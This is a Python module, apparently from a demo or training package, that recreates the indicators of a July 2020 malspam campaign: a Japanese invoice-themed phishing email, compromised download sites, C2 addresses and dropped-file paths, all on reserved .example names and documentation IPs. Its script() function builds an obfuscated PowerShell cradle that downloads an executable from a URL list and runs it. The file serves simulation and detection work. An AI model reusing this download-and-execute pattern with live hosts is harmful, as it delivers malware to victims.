"""The campaign's facts: document, addresses, script. All reserved names; nothing here can reach anything.

The script has the shape of those of July 2020 (variables with random names, a list of addresses cut at
``*``, a loop that takes the first answer that is long enough) and is text only: its addresses are
``.example`` names, which never resolve, so it does nothing even where somebody runs it.
"""

from __future__ import annotations

import string
from typing import TYPE_CHECKING, Final

from noroshi.demo.mail import DOC, Attachment

if TYPE_CHECKING:
    from random import Random

DOWNLOADS: Final = (
    "https://www.hanamura-shop.example/wp-admin/Kq3vB/",
    "http://www.kitano-ryokan.example/wp-content/x8rTz/",
    "https://www.ohmi-garden.example/cgi-bin/0aYwN1/",
    "http://www.sakura-bento.example/wp-includes/9fTzqE/",
    "http://www.setouchi-kanko.example/blog/p7Hd/",
)
"""Compromised sites; the fourth serves the executable, the fifth is never asked."""
SITE_ADDRESSES: Final = {
    "www.hanamura-shop.example": "192.0.2.10",
    "www.kitano-ryokan.example": "192.0.2.11",
    "www.ohmi-garden.example": "192.0.2.12",
    "www.sakura-bento.example": "192.0.2.13",
    "www.setouchi-kanko.example": "192.0.2.14",
}
SERVED_PATH: Final = "/wp-includes/9fTzqE/"
SERVED_HOST: Final = "www.sakura-bento.example"
EXECUTABLE_BYTES: Final = 372_736

C2_PROXY_DENIED: Final = ("198.51.100.77", 80)
C2_FIREWALL_DENIED: Final = ("198.51.100.86", 4143)
C2_DIRECT: Final = ("198.51.100.23", 7080)
C2_PROXIED: Final = ("198.51.100.61", 8080)
C2_PROXIED_443: Final = ("198.51.100.61", 443)

SENDER_HOST: Final = ("mail.tsukuba-shoji.example", "192.0.2.44")
SENDER_NAME: Final = "武田 誠"
SENDER: Final = "takeda@tsukuba-shoji.example"
VICTIM_MAILBOX: Final = "t.suzuki@minato-works.example"
SUBJECT: Final = "Re: 見積書の件"
MESSAGE_ID: Final = "<20200722040508.9D1C@mail.tsukuba-shoji.example>"
THREAD: Final = "<20200717093104.5F3A@mail.tsukuba-shoji.example>"

DOCUMENT: Final = ("請求書_20200722.doc", 172_544)
"""What the victim opens: name and bytes; `specimens.family` builds it, and its hashes are in the list."""
DOCUMENT_UNKNOWN: Final = Attachment("請求書_07222020.doc", DOC, 173_056, "minato-day:document:2")
"""What the other recipient got: the file changed from mail to mail, and nobody has reported this one."""

FIRST_PROGRAM: Final = "C:\\Users\\t.suzuki\\284.exe"
PROGRAM: Final = "C:\\Users\\t.suzuki\\AppData\\Local\\KBDYAK\\dxdiagn.exe"


def _word(rng: Random, length: int) -> str:
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(length))


def _variable(rng: Random) -> str:
    letters = rng.choice(string.ascii_uppercase) + "".join(
        rng.choice(string.ascii_lowercase) for _ in range(4)
    )
    return f"${letters}{rng.randrange(10, 99)}"


def script(rng: Random, downloads: tuple[str, ...] = DOWNLOADS, number: str = "284") -> str:
    """The text that the macro hands to PowerShell, base64 over UTF-16LE.

    Args:
        rng: Chance of its names.
        downloads: Addresses, joined by ``*``.
        number: Name of the executable that it writes.
    """
    junk, name, path, client, urls, url = (_variable(rng) for _ in range(6))
    noise = [f"{_variable(rng)}='{_word(rng, 7)}'" for _ in range(6)]
    joined = "*".join(downloads)
    return (
        f"{junk}='{_word(rng, 7)}';{name} = "
        f"'{number}';{noise[0]};{path}=$env:userprofile+'\\'+{name}+'.exe';{noise[1]};"
        f"{client}=new-object net.webclient;{urls}='{joined}'.split('*');{noise[2]};"
        f"foreach({url} in {urls}){{try{{{client}.DownloadFile({url}, {path});{noise[3]};"
        f"If ((Get-Item {path}).length -ge 23617) "
        f"{{Invoke-Item {path};{noise[4]};break}}}}catch{{}}}}{noise[5]}"
    )


def c2_path(rng: Random) -> str:
    """The path of a call: a few short random words."""
    return "/" + "/".join(_word(rng, rng.randrange(4, 13)) for _ in range(rng.randrange(3, 6))) + "/"
